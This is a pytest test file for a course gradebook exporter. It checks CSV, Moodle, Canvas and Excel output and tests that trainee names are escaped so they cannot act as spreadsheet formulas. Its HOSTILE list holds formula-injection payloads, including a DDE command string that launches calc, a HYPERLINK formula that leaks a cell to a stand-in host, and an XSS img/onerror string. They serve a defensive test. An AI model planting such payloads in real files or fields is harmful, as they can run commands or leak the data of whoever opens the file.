"""Grades in every form: nobody's name is a formula, and everybody's numbers are their own."""

from __future__ import annotations

import dataclasses
from collections.abc import Mapping
from pathlib import Path
from typing import get_args

import pytest
from openpyxl import load_workbook

from clientcourse.grades.model import (
    Grade,
    GradedLesson,
    GradedModule,
    Grades,
    ModuleGrades,
    State,
    Trainee,
)
from clientcourse.grades.write import FORMS
from clientcourse.language import LANGUAGES, Language
from tests.spreadsheet import by_trainee, formulas, opened, records, table

FORMULA = '=HYPERLINK("http://x.test?"&A1)'
HOSTILE = [
    *(FORMULA, "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1"),
    *(" =1+1", '"=1+1', "'=1+1", "＝1+1", "＠SUM(1)", "x;=1+1", 'x";=1+1', "x, =1+1", "x\t=1+1"),
    *("x\n=1+1", "=1+1\x00\x07\x1b[31m", "\ufffe=1+1", "<img src=x onerror=alert(1)>"),
]
CSV = ["csv", "moodle", "canvas"]

QUIZ = GradedModule("quiz", "Quiz", [GradedLesson("one", "One", 4)])


def made_up(
    trainees: Mapping[Trainee, Grade], language: Language = "en", module: GradedModule = QUIZ
) -> Grades:
    return Grades(
        language,
        [module],
        list(trainees),
        {
            (trainee.id, module.id): ModuleGrades({"one": grade}, None, None)
            for trainee, grade in trainees.items()
        },
    )


def written(grades: Grades, to: Path, form: str) -> Path:
    file = to / FORMS[form].file
    FORMS[form].write(grades, file)
    return file


@pytest.mark.parametrize("form", CSV)
def test_excel_is_told_that_a_file_is_utf_8(tmp_path: Path, form: str) -> None:
    file = written(made_up({}), tmp_path, form)
    assert file.read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("form", FORMS)
def test_an_empty_gradebook_gives_heads_only(tmp_path: Path, form: str) -> None:
    file = written(made_up({}), tmp_path, form)
    rows = list(load_workbook(file)["Total"]) if form == "excel" else table(file)
    assert len(rows) == {"csv": 1, "excel": 2, "moodle": 1, "canvas": 2}[form]


HEADS: dict[Language, str] = {
    "zh": "学员|姓|名|邮箱|模块|课|得分|满分|迟交扣分|成绩|提交时间|截止时间|状态",
    "en": "Trainee|Last name|First name|E-mail|Module|Lesson|Points|Maximum|Late penalty|Grade|"
    "Handed in|Due|State",
}


@pytest.mark.parametrize("language", LANGUAGES)
def test_heads_are_in_the_language_of_the_course(tmp_path: Path, language: Language) -> None:
    [heads] = table(written(made_up({}, language), tmp_path, "csv"))
    assert heads == HEADS[language].split("|")


def test_numbers_stay_numbers_below_nothing_too(tmp_path: Path) -> None:
    grades = made_up({Trainee("lin"): Grade(-1 / 3, 0.0, "graded")})
    [row] = records(written(grades, tmp_path, "csv"))
    sheet = load_workbook(written(grades, tmp_path, "excel"))["1 Quiz"]
    assert (row["Points"], row["Grade"]) == ("-0.3333", "0")
    assert (sheet["E3"].value, sheet["E3"].data_type) == (-1 / 3, "n")


def test_a_penalty_takes_no_more_than_there_is(tmp_path: Path) -> None:
    grades = made_up({Trainee("lin"): Grade(1.0, 2.0, "graded")})
    [(_cells, values)] = opened(written(grades, tmp_path, "excel"))
    assert values["Total"]["E3"].value == 0


@pytest.mark.parametrize(
    ("lacking", "heads"),
    [
        (Trainee("wu", email="wu@bank.test", lms_id="8"), ["ID number", "Email address"]),
        (Trainee("wu", email="wu@bank.test"), ["Email address"]),
        (Trainee("wu", lms_id="8"), ["ID number"]),
    ],
    ids=["nobody", "a number", "an address"],
)
def test_moodle_gets_no_column_of_which_somebody_has_nothing(
    tmp_path: Path, lacking: Trainee, heads: list[str]
) -> None:
    lin = Trainee("lin", email="lin@bank.test", lms_id="7")
    file = written(made_up({lin: Grade(), lacking: Grade()}), tmp_path, "moodle")
    assert table(file)[0][1:-3] == heads


def test_nobodys_name_passes_for_the_row_of_maxima(tmp_path: Path) -> None:
    grades = made_up({Trainee("lin", "Points Possible"): Grade(3.0, 0.0, "graded")})
    people = [row[0] for row in table(written(grades, tmp_path, "canvas"))[1:]]
    assert [name for name in people if "Points Possible" in name] == ["Points Possible"]


@pytest.mark.parametrize(
    ("title", "sheet"),
    [
        ("Complaint and objection handling", "1 Complaint and objection handl"),
        ("Q&A: [first] */? \\ last", "1 Q&A   first        last"),
        ("'Tis", "1 'Tis"),
    ],
)
def test_sheets_have_titles_that_excel_takes(tmp_path: Path, title: str, sheet: str) -> None:
    grades = made_up(
        {Trainee("lin"): Grade(3.0, 0.0, "graded")}, module=dataclasses.replace(QUIZ, title=title)
    )
    [(cells, values)] = opened(written(grades, tmp_path, "excel"))
    assert (cells.sheetnames[1], values["Total"]["E3"].value) == (sheet, 3)


def test_trainees_are_told_apart_by_every_character(tmp_path: Path) -> None:
    ids = ["*", "?", "LIN", "lin", "~*", ">0", "=lin", "1", "1.0"]
    points = {Trainee(id_): Grade(float(number), 0.0, "graded") for number, id_ in enumerate(ids)}
    [(_cells, values)] = opened(written(made_up(points), tmp_path, "excel"))
    totals = by_trainee(values["Total"])
    assert {id_: totals[id_]["Quiz"] for id_ in ids} == dict(zip(ids, range(9), strict=True))


def test_totals_stay_with_the_trainee_when_a_sheet_is_sorted(tmp_path: Path) -> None:
    points = {Trainee("lin"): Grade(1.0, 0.5, "graded"), Trainee("wu"): Grade(3.0, 0.0, "graded")}
    file = written(made_up(points), tmp_path, "excel")
    workbook = load_workbook(file)
    sheet = workbook["1 Quiz"]
    for column in "AEG":  # id, points, penalty; the rest are formulas of their own row
        one, other = sheet[f"{column}3"], sheet[f"{column}4"]
        one.value, other.value = other.value, one.value
    workbook.save(file)
    [(_cells, values)] = opened(file)
    totals = by_trainee(values["Total"])
    assert (totals["lin"]["Quiz"], totals["wu"]["Quiz"]) == (0.5, 3)


# --- what strangers call themselves


@pytest.fixture(scope="module")
def hostile() -> Grades:
    """Trainees of hostile names; the first has one in every place."""
    strangers = [
        Trainee(f"t{number}", name, name, name, name) for number, name in enumerate(HOSTILE)
    ]
    known = [Trainee(FORMULA, FORMULA, FORMULA, FORMULA, FORMULA), *strangers]
    module = GradedModule("quiz", "=1+1", [GradedLesson("one", FORMULA, 4)])
    return made_up({one: Grade(1.0, 0.0, "graded") for one in known}, module=module)


@pytest.mark.parametrize("separator", [",", ";"])
def test_no_name_in_a_csv_file_is_a_formula(
    hostile: Grades, tmp_path: Path, separator: str
) -> None:
    control = tmp_path / "control.csv"
    control.write_text(f"x{separator}=1+1\n")
    files = [written(hostile, tmp_path, form) for form in CSV]
    found = [formulas(cells) for cells, _values in opened(control, *files, separator=separator)]
    assert found == [["=1+1"], [], [], []]


def test_no_name_in_the_workbook_is_a_formula(hostile: Grades, tmp_path: Path) -> None:
    [(cells, _values)] = opened(written(hostile, tmp_path, "excel"))
    found = formulas(cells)
    # Of us are, on each of two sheets, two in the row of maxima and three for each trainee.
    assert len(found) == 2 * (2 + 3 * len(hostile.trainees))
    assert [one for one in found if "HYPERLINK" in one] == []


def test_a_name_stays_a_text_when_somebody_edits_its_cell(hostile: Grades, tmp_path: Path) -> None:
    sheet = load_workbook(written(hostile, tmp_path, "excel"))["Total"]
    people = [cell for row in sheet["A3:D40"] for cell in row if cell.value]
    assert {(cell.data_type, cell.quotePrefix) for cell in people} == {("s", True)}


@pytest.mark.parametrize("name", ["Anna-Maria O'Neil", "欧阳 娜娜", "a@bank.test", "Li, Wei"])
def test_ordinary_names_are_left_alone(tmp_path: Path, name: str) -> None:
    [row] = records(written(made_up({Trainee("lin", name): Grade()}), tmp_path, "csv"))
    assert row["Last name"] == name


@pytest.mark.parametrize("form", ["csv", "excel"])
def test_what_cannot_be_seen_is_written_out(tmp_path: Path, form: str) -> None:
    unseen = "".join(map(chr, range(32)))
    file = written(made_up({Trainee("lin", f"x{unseen}\u202e"): Grade()}), tmp_path, form)
    found = table(file)[1][1] if form == "csv" else load_workbook(file)["Total"]["B3"].value
    assert found == f"x{unseen.encode('unicode_escape').decode()}\\u202e"


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_state_has_its_word(tmp_path: Path, language: Language) -> None:
    states = {Trainee(state): Grade(state=state) for state in get_args(State)}
    rows = table(written(made_up(states, language), tmp_path, "csv"))[1:]
    assert len({row[-1] for row in rows}) == 4
